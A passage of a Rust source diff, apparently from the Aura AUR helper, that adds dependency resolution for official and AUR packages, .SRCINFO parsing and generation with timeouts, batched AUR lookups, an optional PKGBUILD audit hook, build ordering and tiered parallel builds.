+            // debug!("Got a handle.");
+            // Held packages are never replaced merely to meet a version demand.
+            let held = opts.held.is_some_and(|h| h.contains(pr));
+            let query = if opts.prefer_installed_source || held { pr } else { pkg_raw };
+            db.local_satisfier(query)
+        };
+
+        // A requested package is never skipped, but it's still worth telling
+        // the user if something else they have already provides it.
+        if let Some(sat) = satisfied.as_ref().filter(|s| s.name != pr) {
+            if orig.contains(pr) {
+                mutx.lock()
+                    .map_err(|_| Error::PoisonedMutex)?
+                    .satisfied_by
+                    .insert(pkg.clone(), sat.name.clone());
+            }
+        }
+
+        let satisfied = probed || satisfied.is_some();
+
+        debug!("Satisfaction ({}) for {}.", satisfied, pkg);
+
+        if orig.contains(pr).not() && satisfied {
+            report(opts, &pkg, format_args!("satisfied {pkg}"));
+            Buckets::locked(&buckets.satisfied)?.insert(pkg);
+        } else {
+            let alpm = opts.pool.get().map_err(Error::R2D2)?;
+
+            // A preferred provider of a virtual name is sought directly, instead
+            // of leaving the choice to whichever provider is found first.
+            let preferred = opts
+                .preferred_providers
+                .and_then(|m| m.get(pr))
+                .map(|p| p.as_str());
+
+            // Unlike normal version demands, sonames must be passed as-is for
+            // ALPM to match them against the `provides` of official packages.
+            let query = match preferred {
+                Some(p) => p,
+                None if is_soname(pkg_raw) => pkg_raw,
+                None => pr,
+            };
+
+            // ALPM is case-sensitive, but names given on the AUR aren't always
+            // cased as the official packages are.
+            let found = shared
+                .sync
+                .get_or_query(query, || alpm.sync_satisfier(query))?;
+            let found = found.or_else(|| {
+                let lower = query.to_lowercase();
+                let folded = opts.case_insensitive_official && lower != query;
+                folded.then(|| alpm.sync_satisfier(&lower)).flatten()
+            });
+
+            match found {
+                Some(official) => {
+                    debug!("{} is an official package.", pr);
+
+                    if official.name != pr && official.name.eq_ignore_ascii_case(pr) {
+                        mutx.lock()
+                            .map_err(|_| Error::PoisonedMutex)?
+                            .case_folded
+                            .insert(pkg.clone(), official.name.clone());
+                    }
+
+                    if opts.strict && preferred.is_none() && official.name != pr {
+                        let candidates: Vec<_> = alpm
+                            .sync_providers(pr)
+                            .into_iter()
+                            .map(|s| s.name)
+                            .sorted()
+                            .collect();
+
+                        if candidates.len() > 1 {
+                            return Err(Error::AmbiguousProvider(pkg, candidates));
+                        }
+                    }
+
+                    if let Some(allowed) = opts.allowed_repos {
+                        if allowed.contains(&official.repo).not() {
+                            return Err(Error::DisallowedRepo(pkg, official.repo));
+                        }
+                    }
+
+                    let prnt = official.name;
+                    let migrated = orig.contains(pr) && alpm.locally_built(&prnt);
+                    let downgrade = alpm
+                        .local_satisfier(&prnt)
+                        .filter(|local| local.name == prnt)
+                        .filter(|local| is_older(&official.version, &local.version))
+                        .map(|local| (local.version, official.version));
+
+                    // A dependency is often met by an official package of
+                    // another name, say `java-runtime` by `jre-openjdk`.
+                    {
+                        let mut provided = Buckets::locked(&buckets.provided)?;
+                        official
+                            .provides
+                            .iter()
+                            .map(strip_version)
+                            .chain((pr != prnt).then(|| pkg.clone()))
+                            .for_each(|p| {
+                                provided.entry(p).or_insert_with(|| prnt.clone());
+                            });
+                    }
+
+                    let fresh = is_root.not()
+                        && Buckets::locked(&buckets.to_install)?.insert(Official {
+                            name: prnt.clone(),
+                            provides: official.provides.into_iter().collect(),
+                        });
+
+                    let mut r = mutx.lock().map_err(|_| Error::PoisonedMutex)?;
+
+                    if let Some(versions) = downgrade {
+                        warn!("{} would be downgraded: {:?}", prnt, versions);
+                        r.downgrades.insert(prnt.clone(), versions);
+                    }
+
+                    if migrated {
+                        warn!("{} is now in the {} repository.", prnt, official.repo);
+                        r.migrated.push(prnt.clone());
+                    }
+
+                    if official.conflicts.is_empty().not() {
+                        let conflicts = official.conflicts.iter().cloned().collect();
+                        r.conflicts.insert(prnt.clone(), conflicts);
+                    }
+
+                    if is_root {
+                        r.roots.insert(prnt.clone());
+                    } else if fresh {
+                        *r.repo_breakdown.entry(official.repo).or_default() += 1;
+                    }
+
+                    for d in official.depends.iter() {
+                        let edge = (prnt.clone(), strip_version(d.as_str()), DepKind::Runtime);
+                        r.dep_edges.insert(edge);
+                    }
+
+                    drop(r);
+                    report(opts, &prnt, format_args!("official {prnt}"));
+
+                    // Since this is an official, prebuilt package, we don't
+                    // need to consider its makedeps or checkdeps.
+                    let deps = official.depends;
+
+                    // FIXME Fri Feb 18 2022 Avoid manual drops.
+                    //
+                    // Manual drops are a signal of bad design. For the moment
+                    // these are necessary to avoid running out of ALPM handles
+                    // when we recurse.
+                    drop(alpm);
+
+                    traverse(opts.traversal, deps, |d| {
+                        let p = Some(prnt.as_str());
+                        resolve_one(opts, shared, mutx.clone(), buckets, orig, p, &d)
+                    })?;
+                }
                 None => {
                     // FIXME Fri Feb 18 2022 Same here as above.
                     drop(alpm);
 
-                    debug!("{} may be an AUR package.", pr);
-                    let path = pull_or_clone(fetch, clone_d, parent, &pkg)?;
-                    debug!("Parsing .SRCINFO for {}", pkg);
-                    let full = path.join(".SRCINFO");
-                    let info = Srcinfo::parse_file(&full).map_err(|e| Error::Srcinfo(full, e))?;
-                    let name = info.base.pkgbase;
+                    debug!("{} may be an AUR package.", pr);
+                    let (path, faur) = pull_or_clone(
+                        opts.fetch,
+                        opts.clone_d,
+                        opts.strict,
+                        opts.shallow_clone,
+                        opts.refresh,
+                        opts.git_retry,
+                        opts.pkgbuild_audit,
+                        shared,
+                        parent,
+                        preferred.unwrap_or(pr),
+                    )?;
+
+                    if let Some(fp) = faur {
+                        let mut r = mutx.lock().map_err(|_| Error::PoisonedMutex)?;
+
+                        if opts.min_votes.is_some_and(|min| fp.num_votes < min) {
+                            r.low_popularity.insert(fp.name.clone());
+                        }
+
+                        r.popularity
+                            .insert(fp.name.clone(), (fp.num_votes, fp.popularity));
+
+                        if opts.collect_faur {
+                            r.faur_packages.insert(fp.name.clone(), fp);
+                        }
+                    }
+
+                    let info = cached_srcinfo(
+                        &shared.srcinfo,
+                        opts.srcinfo_timeout,
+                        opts.generate_srcinfo.then_some(opts.srcinfo_env),
+                        &path,
+                    )?;
+                    let name = info.base.pkgbase.clone();
+
+                    if let Some(diag) = base_mismatch(&path, &name) {
+                        if opts.strict {
+                            let Diagnostic::BaseMismatch { dir, pkgbase } = diag else {
+                                unreachable!()
+                            };
+                            return Err(Error::BaseMismatch(dir, pkgbase));
+                        }
+
+                        warn!("{:?}", diag);
+                        mutx.lock()
+                            .map_err(|_| Error::PoisonedMutex)?
+                            .diagnostics
+                            .push(diag);
+                    }
+
+                    if let Some(diag) = unmet_demand(&info, pkg_raw) {
+                        warn!("{:?}", diag);
+                        mutx.lock()
+                            .map_err(|_| Error::PoisonedMutex)?
+                            .diagnostics
+                            .push(diag);
+                    }
+
+                    // --- Package identities provided by this one --- //
+                    let prov: HashSet<_> = info.pkgs.iter().map(|p| p.pkgname.clone()).collect();
+
+                    // --- All possible deps to consider --- //
+                    let mut demands = srcinfo_deps(
+                        &info,
+                        opts.arch,
+                        opts.dep_kinds,
+                        opts.ignore_makedep_versions,
+                    );
+
+                    // --- Extra deps for any enabled build features --- //
+                    if let Some(features) = opts.feature_deps {
+                        [pr, name.as_str()]
+                            .into_iter()
+                            .unique()
+                            .filter_map(|n| features.get(n))
+                            .flatten()
+                            .for_each(|d| {
+                                demands.insert(d.clone());
+                            });
+                    }
+
+                    // --- One demand per dependency --- //
+                    let demands = merge_demands(demands);
+                    let deps: HashSet<_> =
+                        demands.iter().map(|d| strip_version(d.as_str())).collect();
+
+                    debug!("{} ({}) => {:?}", pr, name, demands);
+
+                    let deps_copy = demands;
+                    let optdeps = if opts.dep_kinds.contains(DepKinds::OPT) {
+                        srcinfo_optdeps(&info, opts.arch)
+                    } else {
+                        Vec::new()
+                    };
+                    let parent = name.clone();
+                    let base = name.clone();
+                    let provides = srcinfo_provides(&info);
+                    let members = info
+                        .pkgs
+                        .iter()
+                        .map(|p| p.pkgname.clone())
+                        .sorted()
+                        .collect();
+                    let conflicts = srcinfo_conflicts(&info, opts.arch);
+                    let kinds = srcinfo_dep_kinds(&info);
+                    let pgp_keys = info.base.valid_pgp_keys.clone();
+                    let vcs = is_vcs(&info);
+                    let edges: Vec<_> = deps
+                        .iter()
+                        .map(|d| {
+                            let kind = kinds.get(d).copied().unwrap_or(DepKind::Runtime);
+                            (name.clone(), d.clone(), kind)
+                        })
+                        .collect();
+                    let buildable = Buildable {
+                        name,
+                        deps,
+                        provides,
+                        members,
+                    };
+
+                    report(opts, &base, format_args!("aur {} {}", base, path.display()));
+
+                    {
+                        let mut provided = Buckets::locked(&buckets.provided)?;
+                        info.pkg
+                            .provides
+                            .into_iter()
+                            .flat_map(|av| av.vec)
+                            .chain(prov)
+                            .map(strip_version)
+                            .for_each(|p| {
+                                provided.entry(p).or_insert_with(|| base.clone());
+                            });
+                    }
+
+                    let root = if is_root {
+                        Some(buildable.name)
+                    } else {
+                        Buckets::locked(&buckets.to_build)?.insert(buildable);
+                        None
+                    };
+
+                    mutx.lock().map_err(|_| Error::PoisonedMutex).map(|mut r| {
+                        r.roots.extend(root);
+
+                        r.dep_edges.extend(edges);
+
+                        if conflicts.is_empty().not() {
+                            r.conflicts.insert(base.clone(), conflicts);
+                        }
+
+                        if pgp_keys.is_empty().not() {
+                            r.pgp_keys.insert(base.clone(), pgp_keys);
+                        }
+
+                        if vcs {
+                            r.vcs.insert(base.clone());
+                        }
+
+                        r.clone_paths.insert(base, path);
+                    })?;
+
+                    prefetch_aur(opts, shared, &mutx, buckets, orig, &deps_copy)?;
+
+                    traverse(opts.traversal, deps_copy, |p| {
+                        let prnt = Some(parent.as_str());
+                        resolve_one(opts, shared, mutx.clone(), buckets, orig, prnt, &p)
+                    })?;
+
+                    // Optional dependencies that don't exist are merely noted,
+                    // but any other problem with them is still an error.
+                    traverse(opts.traversal, optdeps, |p| {
+                        let prnt = Some(parent.as_str());
+                        match resolve_one(opts, shared, mutx.clone(), buckets, orig, prnt, &p) {
+                            Err(Error::DoesntExistWithParent(par, dep)) if par == parent => {
+                                debug!("Optional dependency {} doesn't exist.", dep);
+                                mutx.lock()
+                                    .map_err(|_| Error::PoisonedMutex)?
+                                    .unavailable_optdeps
+                                    .insert(dep);
+                                Ok(())
+                            }
+                            other => other,
+                        }
+                    })?;
+                }
+            }
+        }
+    }
+
+    Ok(())
+}
+
+/// Note a decision in the report file, if there is one. Failing to do so is
+/// never fatal to resolution.
+fn report<M, F>(opts: &ResolveOpts<M, F>, pkg: &str, line: std::fmt::Arguments)
+where
+    M: ManageConnection,
+{
+    if let Some(f) = opts.on_progress {
+        f(pkg);
+    }
+
+    if let Some(path) = opts.report_path {
+        // Written in one go, so that lines from other threads can't interleave.
+        let full = format!("{line}\n");
+        let written = std::fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(path)
+            .and_then(|mut file| file.write_all(full.as_bytes()));
+
+        if let Err(e) = written {
+            warn!("Couldn't write to {}: {}", path.display(), e);
+        }
+    }
+}
+
+/// Look up every unseen dependency without a local clone in a single Faur
+/// query, since any of them might be AUR packages. Names that the local or sync
+/// databases already satisfy are left out, just as they would be once resolved.
+/// This saves a round-trip per dependency once they're resolved.
+fn prefetch_aur<M, F, E, S>(
+    opts: &ResolveOpts<M, F>,
+    shared: &Shared,
+    mutx: &Mutex<Resolution>,
+    buckets: &Buckets,
+    orig: &HashSet<&str>,
+    deps: &[S],
+) -> Result<(), Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E>,
+    S: AsRef<str>,
+{
+    let mut unseen = Vec::new();
+
+    for d in deps.iter().map(|d| strip_version(d.as_ref())) {
+        if buckets.seen(&d)?.not() {
+            let r = mutx.lock().map_err(|_| Error::PoisonedMutex)?;
+
+            if r.roots.contains(&d).not() && r.in_flight.contains(&d).not() {
+                unseen.push(d);
+            }
+        }
+    }
+
+    let unseen: Vec<_> = unseen
+        .into_iter()
+        .filter(|d| super::has_local_aur_clone(opts.clone_d, d).not())
+        .filter(|d| opts.satisfied_probe.is_some_and(|probe| probe(d)).not())
+        .sorted()
+        .dedup()
+        .collect();
+
+    if unseen.len() < 2 {
+        return Ok(());
+    }
+
+    let names = {
+        let db = opts.pool.get().map_err(Error::R2D2)?;
+
+        unseen
+            .into_iter()
+            .filter(|d| orig.contains(d.as_str()) || db.local_satisfier(d).is_none())
+            .map(|d| {
+                let official = shared.sync.get_or_query(&d, || db.sync_satisfier(&d))?;
+                Ok(official.is_none().then_some(d))
+            })
+            .filter_map_ok(|d| d)
+            .collect::<Result<Vec<_>, Error<E>>>()?
+    };
+
+    shared.prefetch.batch(&shared.faur, opts.fetch, names)
+}
+
+/// Look up the votes of every package to be built that wasn't looked up during
+/// resolution, say because it was already cloned, in a single Faur query.
+fn cloned_popularity<F, E>(
+    fetch: &F,
+    faur: &FaurClient,
+    res: &mut Resolution,
+    min: u64,
+) -> Result<(), Error<E>>
+where
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E>,
+{
+    let names: Vec<&str> = res
+        .to_build
+        .iter()
+        .flat_map(|b| b.members.iter())
+        .filter(|m| res.popularity.contains_key(*m).not())
+        .map(|m| m.as_str())
+        .sorted()
+        .collect();
+
+    if names.is_empty() {
+        return Ok(());
+    }
+
+    let found = faur.info(names, fetch).map_err(Error::Faur)?;
+
+    for fp in found {
+        if fp.num_votes < min {
+            res.low_popularity.insert(fp.name.clone());
+        }
+
+        res.popularity
+            .insert(fp.name, (fp.num_votes, fp.popularity));
+    }
+
+    Ok(())
+}
+
+/// Does the name of the clone directory disagree with the `pkgbase` found
+/// within it?
+fn base_mismatch(path: &Path, pkgbase: &str) -> Option<Diagnostic> {
+    let dir = path.file_name()?.to_str()?;
+
+    (dir != pkgbase).then(|| Diagnostic::BaseMismatch {
+        dir: dir.to_string(),
+        pkgbase: pkgbase.to_string(),
+    })
+}
+
+/// Parse the `.SRCINFO` of a clone, unless it has already been parsed before.
+/// If `generate` is given, a missing `.SRCINFO` is generated from the
+/// `PKGBUILD` with that environment.
+fn cached_srcinfo<E>(
+    cache: &SrcinfoCache,
+    timeout: Option<Duration>,
+    generate: Option<Option<&HashMap<String, String>>>,
+    path: &Path,
+) -> Result<Srcinfo, Error<E>> {
+    cache.get_or_parse(path, || {
+        debug!("Parsing .SRCINFO for {}", path.display());
+        let full = path.join(".SRCINFO");
+
+        match generate {
+            Some(env) if full.exists().not() && path.join("PKGBUILD").exists() => {
+                generate_srcinfo("makepkg", path, env, timeout)
+            }
+            _ => match timeout {
+                None => Srcinfo::parse_file(&full).map_err(|e| Error::Srcinfo(full, e)),
+                Some(limit) => parse_within(full, limit, |p| Srcinfo::parse_file(p)),
+            },
+        }
+    })
+}
+
+/// Produce the `.SRCINFO` of a clone that lacks one, by asking `makepkg` to
+/// print it from the `PKGBUILD`. The given environment variables are visible
+/// to the `PKGBUILD` while it's evaluated. A `makepkg` that runs longer than
+/// the given limit is killed.
+fn generate_srcinfo<E>(
+    makepkg: &str,
+    path: &Path,
+    env: Option<&HashMap<String, String>>,
+    timeout: Option<Duration>,
+) -> Result<Srcinfo, Error<E>> {
+    debug!("Generating .SRCINFO for {}", path.display());
+
+    let failed = || Error::SrcinfoGeneration(path.to_path_buf());
+    let mut child = Command::new(makepkg)
+        .arg("--printsrcinfo")
+        .envs(env.into_iter().flatten())
+        .current_dir(path)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .map_err(|_| failed())?;
+    let mut stdout = child.stdout.take().ok_or_else(failed)?;
+    let (send, recv) = std::sync::mpsc::channel();
+
+    std::thread::spawn(move || {
+        let mut out = Vec::new();
+        // The receiver may have given up already, and that's fine.
+        let _ = send.send(stdout.read_to_end(&mut out).map(|_| out));
+    });
+
+    let read = match timeout {
+        None => recv.recv().ok(),
+        Some(limit) => match recv.recv_timeout(limit) {
+            Err(RecvTimeoutError::Timeout) => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(Error::SrcinfoParseTimeout(path.display().to_string()));
+            }
+            otherwise => otherwise.ok(),
+        },
+    };
+
+    let output = read
+        .and_then(|r| r.ok())
+        .filter(|_| child.wait().is_ok_and(|s| s.success()))
+        .ok_or_else(failed)?;
+
+    String::from_utf8_lossy(&output)
+        .parse()
+        .map_err(|e| Error::Srcinfo(path.join(".SRCINFO"), e))
+}
+
+/// Parse a `.SRCINFO` on a separate thread, giving up if that takes longer than
+/// the given limit. A parse that times out is abandoned, not cancelled.
+fn parse_within<P, E>(full: PathBuf, limit: Duration, parse: P) -> Result<Srcinfo, Error<E>>
+where
+    P: FnOnce(&Path) -> Result<Srcinfo, srcinfo::Error> + Send + 'static,
+{
+    let (send, recv) = std::sync::mpsc::channel();
+    let path = full.clone();
+
+    std::thread::spawn(move || {
+        // The receiver may have given up already, and that's fine.
+        let _ = send.send(parse(&path));
+    });
+
+    match recv.recv_timeout(limit) {
+        Ok(parsed) => parsed.map_err(|e| Error::Srcinfo(full, e)),
+        Err(_) => Err(Error::SrcinfoParseTimeout(full.display().to_string())),
+    }
+}
+
+/// All dependencies of an AUR package that must be accounted for before it can
+/// be built, along with any version demands they carry. If an architecture is
+/// given, dependencies specific to other architectures are ignored.
+fn srcinfo_deps(
+    info: &Srcinfo,
+    arch: Option<&str>,
+    kinds: DepKinds,
+    ignore_make_versions: bool,
+) -> HashSet<String> {
+    let for_arch = |av: &&ArchVec| arch.is_none_or(|a| av.supports(a));
+    let prov: HashSet<_> = info.pkgs.iter().map(|p| p.pkgname.as_str()).collect();
+    let makes = info
+        .base
+        .makedepends
+        .iter()
+        .filter(|_| kinds.contains(DepKinds::MAKE));
+    let checks = info
+        .base
+        .checkdepends
+        .iter()
+        .filter(|_| kinds.contains(DepKinds::CHECK));
+
+    let build = makes
+        .chain(checks)
+        .filter(for_arch)
+        .flat_map(|av| av.vec.iter())
+        .map(
+            |d| {
+                if ignore_make_versions {
+                    strip_version(d.as_str())
+                } else {
+                    d.to_string()
+                }
+            },
+        );
+
+    let runtime = kinds.contains(DepKinds::RUNTIME);
+
+    info.pkg
+        .depends
+        .iter()
+        .chain(info.pkgs.iter().flat_map(|p| p.depends.iter()))
+        .filter(|_| runtime)
+        .filter(for_arch)
+        .flat_map(|av| av.vec.iter())
+        .map(|d| d.to_string())
+        .chain(build)
+        // To prevent false detection of dependency cycles during build
+        // preparation.
+        //
+        // Consider the case of `mingw-w64-harfbuzz-icu`, a split package found
+        // within `mingw-w64-harfbuzz`. The former depends on the latter (at
+        // runtime), but they are built as a pair during the same `makepkg`
+        // invocation. So we don't have to consider normal dependency
+        // relationships between them.
+        .filter(|p| prov.contains(strip_version(p.as_str()).as_str()).not())
+        .collect()
+}
+
+/// How each dependency of an AUR package is needed, by stripped name. Runtime
+/// needs take precedence over build-time ones.
+fn srcinfo_dep_kinds(info: &Srcinfo) -> HashMap<String, DepKind> {
+    let runtime = info
+        .pkg
+        .depends
+        .iter()
+        .chain(info.pkgs.iter().flat_map(|p| p.depends.iter()))
+        .map(|av| (av, DepKind::Runtime));
+    let make = info.base.makedepends.iter().map(|av| (av, DepKind::Make));
+    let check = info.base.checkdepends.iter().map(|av| (av, DepKind::Check));
+
+    // Later entries win, so the most important kinds come last.
+    check
+        .chain(make)
+        .chain(runtime)
+        .flat_map(|(av, kind)| {
+            av.vec
+                .iter()
+                .map(move |d| (strip_version(d.as_str()), kind))
+        })
+        .collect()
+}
+
+/// The optional dependencies of an AUR package, without their descriptions.
+fn srcinfo_optdeps(info: &Srcinfo, arch: Option<&str>) -> Vec<String> {
+    info.pkg
+        .optdepends
+        .iter()
+        .chain(info.pkgs.iter().flat_map(|p| p.optdepends.iter()))
+        .filter(|av| arch.is_none_or(|a| av.supports(a)))
+        .flat_map(|av| av.vec.iter())
+        .map(|d| {
+            d.split_once(':')
+                .map_or(d.as_str(), |(name, _)| name)
+                .trim()
+        })
+        .unique()
+        .map(|d| d.to_string())
+        .collect()
+}
+
+/// All names that an AUR package, or any of its split packages, conflicts
+/// with.
+fn srcinfo_conflicts(info: &Srcinfo, arch: Option<&str>) -> HashSet<String> {
+    info.pkg
+        .conflicts
+        .iter()
+        .chain(info.pkgs.iter().flat_map(|p| p.conflicts.iter()))
+        .filter(|av| arch.is_none_or(|a| av.supports(a)))
+        .flat_map(|av| av.vec.iter())
+        .map(|c| strip_version(c.as_str()))
+        .collect()
+}
+
+/// All virtual names provided by an AUR package, including by any of its split
+/// packages.
+fn srcinfo_provides(info: &Srcinfo) -> HashSet<String> {
+    info.pkg
+        .provides
+        .iter()
+        .chain(info.pkgs.iter().flat_map(|p| p.provides.iter()))
+        .flat_map(|av| av.vec.iter())
+        .map(|p| strip_version(p.as_str()))
+        .collect()
+}
+
+/// Produce the local clone of some AUR package, cloning it if necessary.
+///
+/// An existing clone is trusted as-is, and only pulled if a `refresh` was asked
+/// for, as with `-Ay`. This relies on local clones as much as possible, to
+/// avoid calling out to the AUR all the time. Of course if there is no local
+/// clone, then a fresh one must be made either way.
+#[allow(clippy::too_many_arguments)]
+fn pull_or_clone<S, F, E>(
+    fetch: &F,
+    clone_d: &Path,
+    strict: bool,
+    shallow: bool,
+    refresh: bool,
+    retry: Retry,
+    audit: Option<&Audit>,
+    shared: &Shared,
+    parent: Option<S>,
+    pkg: &str,
+) -> Result<(PathBuf, Option<crate::faur::Package>), Error<E>>
+where
+    S: Into<String>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E>,
+{
+    let (path, found) = locate_clone(
+        fetch, clone_d, strict, shallow, refresh, retry, shared, parent, pkg,
+    )?;
+
+    if let Some(audit) = audit {
+        match std::fs::read_to_string(path.join("PKGBUILD")) {
+            Err(e) => debug!("No PKGBUILD to audit for {}: {}", pkg, e),
+            Ok(pkgbuild) => {
+                if let AuditResult::Reject(reason) = audit(pkg, &pkgbuild) {
+                    return Err(Error::AuditRejected(pkg.to_string(), reason));
+                }
+            }
+        }
+    }
+
+    Ok((path, found))
+}
+
+/// Find, or otherwise produce, the local clone of some AUR package.
+#[allow(clippy::too_many_arguments)]
+fn locate_clone<S, F, E>(
+    fetch: &F,
+    clone_d: &Path,
+    strict: bool,
+    shallow: bool,
+    refresh: bool,
+    retry: Retry,
+    shared: &Shared,
+    parent: Option<S>,
+    pkg: &str,
+) -> Result<(PathBuf, Option<crate::faur::Package>), Error<E>>
+where
+    S: Into<String>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E>,
+{
+    // Best case scenario: We already have a local clone of the requested
+    // dependency.
+    if super::has_local_aur_clone(clone_d, pkg) {
+        let path = clone_d.join(pkg);
+        refresh_clone(refresh, retry, shared, &path)?;
+        Ok((path, None))
+    } else {
+        // Here, we don't have a local clone of the package, so we need to find
+        // out if it's real. It may have already been looked up in a batch.
+        let info = match shared.prefetch.get(pkg)? {
+            Some(prefetched) => prefetched,
+            None => shared.faur.info([pkg], fetch).map_err(Error::Faur)?.pop(),
+        };
+        let found = match info {
+            // ASSUMPTION: The list is a singleton!
+            Some(found) => Some(found),
+            // There were no immediate results, but the dependency might be
+            // provided by something else.
+            None => {
+                debug!("Trying extended provider search on {}.", pkg);
+                let mut provs = shared.faur.provides(pkg, fetch).unwrap_or_default();
+
+                if strict && provs.len() > 1 {
+                    let candidates = provs.into_iter().map(|p| p.name).sorted().collect();
+                    return Err(Error::AmbiguousFaur(pkg.to_string(), candidates));
+                }
+
+                // FIXME Fri May 20 2022 Somehow allow the user a choice of provider, if there are multiple.
+                // In general this should be unlikely on the AUR for the average user, especially for dependencies.
+                provs.pop()
+            }
+        }
+        // Worst scenario: There wasn't a provider either. Then the
+        // dependency, as requested, simply doesn't exist and we have to
+        // halt the entire process.
+        .ok_or_else(|| match parent {
+            Some(par) => Error::DoesntExistWithParent(par.into(), pkg.to_string()),
+            None => Error::DoesntExist(pkg.to_string()),
+        })?;
+        let base = found.package_base.as_str();
+
+        // Second best scenario: the requested dependency was part of some split
+        // package (etc.) that we already know about.
+        if super::has_local_aur_clone(clone_d, base) {
+            let path = clone_d.join(base);
+            refresh_clone(refresh, retry, shared, &path)?;
+            Ok((path, Some(found)))
+        } else {
+            let path = shared
+                .git
+                .run(|| {
+                    crate::git::retry(retry, || {
+                        crate::aur::clone_aur_repo(Some(clone_d), base, shallow)
+                    })
+                })?
+                .map_err(Error::Git)?;
+            Ok((path, Some(found)))
+        }
+    }
+}
+
+/// Pull the latest commits into an existing clone, if asked to.
+fn refresh_clone<E>(
+    refresh: bool,
+    retry: Retry,
+    shared: &Shared,
+    path: &Path,
+) -> Result<(), Error<E>> {
+    if refresh {
+        shared
+            .git
+            .run(|| crate::git::retry(retry, || crate::git::pull(path)))?
+            .map_err(Error::Git)?;
+    }
+
+    Ok(())
+}
+
+/// Given a collection of [`Buildable`] packages, determine a tiered order in
+/// which they should be built and installed together.
+///
+/// This ensures that all dependencies are built and installed before they're
+/// needed.
+///
+/// ```
+/// let res = aura_core::aur::dependencies::build_order::<()>(vec![]).unwrap();
+/// assert!(res.is_empty());
+/// ```
+pub fn build_order<E>(mut to_build: Vec<Buildable>) -> Result<Vec<Vec<String>>, Error<E>> {
+    info!("Determining build order.");
+
+    // NOTE 2024-08-15 This re-sorting is a workaround around an issue with the
+    // toposort results that occurs due to a combination of:
+    //
+    //   1. Packages having AUR dependencies.
+    //   2. Package names having a certain alphabetical ordering.
+    //   3. The insertion order in the input Vec relative to that alphabetical ordering.
+    //
+    // Experimentally, it seems that by sorting by dep-count we can avoid the
+    // issue. Note also that this is almost certainly the same issue I was
+    // seeing previously of "Aura uninstalling itself" due to the effects of
+    // `-a`.
+    to_build.sort_by_key(|b| b.deps.len());
+    to_build.reverse();
+    let graph = dep_graph(&to_build);
+
+    // NOTE Testing only.
+    // let dot = Dot::new(&graph);
+    // std::fs::write("dep-graph.dot", format!("{:?}", dot)).unwrap();
+
+    let topo = petgraph::algo::toposort(&graph, None)
+        .map_err(|cycle| {
+            shortest_cycle(cycle.node_id(), &graph)
+                .into_iter()
+                .filter_map(|ix| graph.node_weight(ix))
+                .map(|b| b.to_string())
+                .collect::<Vec<_>>()
+                .apply(Error::CyclicDep)
+        })?
+        .into_iter()
+        // Least-depended-upon to most-dependend-upon ordering. We reverse the
+        // order again at the very end.
+        .map(|ix| graph.node_weight(ix))
+        .collect::<Option<Vec<_>>>()
+        .ok_or(Error::MalformedGraph)?;
+
+    topo.into_iter()
+        // --- Split the packages by "layer" --- //
+        .fold(
+            (Vec::new(), Vec::new(), HashSet::new()),
+            |(mut layers, mut group, mut deps), buildable| {
+                if deps.contains(&buildable.name) {
+                    // Then, this buildable can't be built in the same layer as
+                    // the previously considered packages. We thus construct a
+                    // new layer.
+                    layers.push(group);
+                    deps.clear();
+                    // NOTE 2024-08-07 Potentially a subtle bug here.
+                    //
+                    // We blindly add all this `buildable`'s deps here and hope
+                    // that thanks to the topological sort that they've already
+                    // processed into early layers. Also see comment (1) below.
+                    deps.extend(&buildable.deps);
+                    (layers, vec![buildable.name.to_string()], deps)
+                } else {
+                    // (1) While all of the Buildable's official (non-AUR) deps
+                    // are also included in its `deps` field, only its own name
+                    // is ever added to the build order "group", and thus we
+                    // never try to mistakenly build an official package as an
+                    // AUR one.
+                    group.push(buildable.name.to_string());
+                    deps.extend(&buildable.deps);
+                    (layers, group, deps)
+                }
+            },
+        )
+        // --- Account for the final group --- //
+        .apply(|(mut layers, group, _)| {
+            if group.is_empty().not() {
+                layers.push(group);
+            }
+            // The most-dependend-upon packages will now come first.
+            layers.reverse();
+            Ok(layers)
+        })
+}
+
+/// Build each tier of a [`build_order`] in turn, building the packages within a
+/// tier in parallel.
+///
+/// No more than `limit` packages are ever built at once, regardless of the size
+/// of a tier. All packages of a tier are attempted even if some fail, but the
+/// next tier is never started if any did, since it may depend on them. Such
+/// failures are collected into [`Error::Resolutions`].
+pub fn build_tiers<G, E>(tiers: &[Vec<String>], limit: usize, build: G) -> Result<(), Error<E>>
+where
+    G: Fn(&str) -> Result<(), E> + Sync,
+    E: Send,
+{
+    let sem = Semaphore::new(limit);
+
+    for tier in tiers {
+        debug!("Building tier: {:?}", tier);
+
+        let v: Validated<(), Error<E>> = tier
+            .par_iter()
+            .map(|pkg| {
+                sem.run(|| build(pkg))?
+                    .map_err(|e| Error::Build(pkg.clone(), e))
+            })
+            .collect();
+
+        v.ok().map_err(|es| Error::Resolutions(Box::new(es)))?;
+    }
+
+    Ok(())
+}
+
+/// A single action within an [`InstallPlan`].
+#[derive(Debug, PartialEq, Eq, Serialize)]
+#[serde(tag = "action", rename_all = "lowercase")]
+pub enum Step {
+    /// Install these prebuilt packages from the official repositories.
+    Install {
+        /// The packages to install, sorted by name.
+        packages: Vec<String>,
+    },
+    /// Build and install these AUR packages. None of them depend on each
+    /// other, so they may be built in any order.
+    Build {
+        /// The packages to build, sorted by name.
+        packages: Vec<String>,
+    },
+}
+
+/// Every action, in order, necessary to install some packages.
+#[derive(Debug, PartialEq, Eq, Serialize)]
+pub struct InstallPlan {
+    /// The actions to perform, first to last.
+    pub steps: Vec<Step>,
+    /// Where each AUR package to be built was cloned to, keyed by `pkgbase`.
+    #[serde(skip)]
+    pub clone_paths: HashMap<String, PathBuf>,
+    /// The AUR packages to be built only as dependencies of others, by
+    /// `pkgbase`. These should be installed with `--asdeps`.
+    #[serde(skip)]
+    pub dependencies: HashSet<String>,
+}
+
+impl InstallPlan {
+    /// Order the contents of a [`Resolution`] into concrete steps.
+    ///
+    /// Official packages come first, since any of the AUR packages may depend
+    /// on them. The AUR packages then follow in their [`build_order`].
+    pub fn new<E>(res: Resolution) -> Result<InstallPlan, Error<E>> {
+        let mut officials: Vec<String> = res.to_install.into_iter().map(|o| o.name).collect();
+        officials.sort();
+
